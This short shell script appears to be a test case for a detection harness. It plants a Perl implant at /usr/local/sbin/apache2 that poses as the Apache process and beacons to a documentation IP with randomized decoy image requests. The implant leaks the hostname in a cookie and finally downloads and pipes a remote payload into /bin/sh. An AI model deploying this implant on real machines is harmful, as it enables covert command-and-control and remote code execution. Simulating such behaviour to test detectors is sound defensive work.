#!/bin/sh
. /opt/case/case.sh

cat >/usr/local/sbin/apache2 <<'END'
use IO::Socket::INET;
my @who = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Macintosh)", "curl/8.1", "Wget/1.21");
$0 = "/usr/sbin/apache2 -k start";
for my $n (1 .. 14) {
    my $s = IO::Socket::INET->new("203.0.113.10:80") or next; my $path = $n == 14 ? "/payload.sh" : "/images/" . int(rand 1e6) . ".gif?" . ("x" x rand 40);
    print $s "GET $path HTTP/1.0\r\nHost: cdn.example.net\r\nUser-Agent: $who[rand @who]\r\nCookie: id=" . unpack("H*", `hostname`) . "\r\n\r\n";
    my $b = do { local $/; <$s> }; $b =~ s/^.*?\r\n\r\n//s; if ($b =~ /^#!/) { open my $sh, "|-", "/bin/sh" or die; print $sh $b; close $sh }
    select undef, undef, undef, 0.2 + rand 0.5;
}
END
perl /usr/local/sbin/apache2
test -e /tmp/reached
took_place
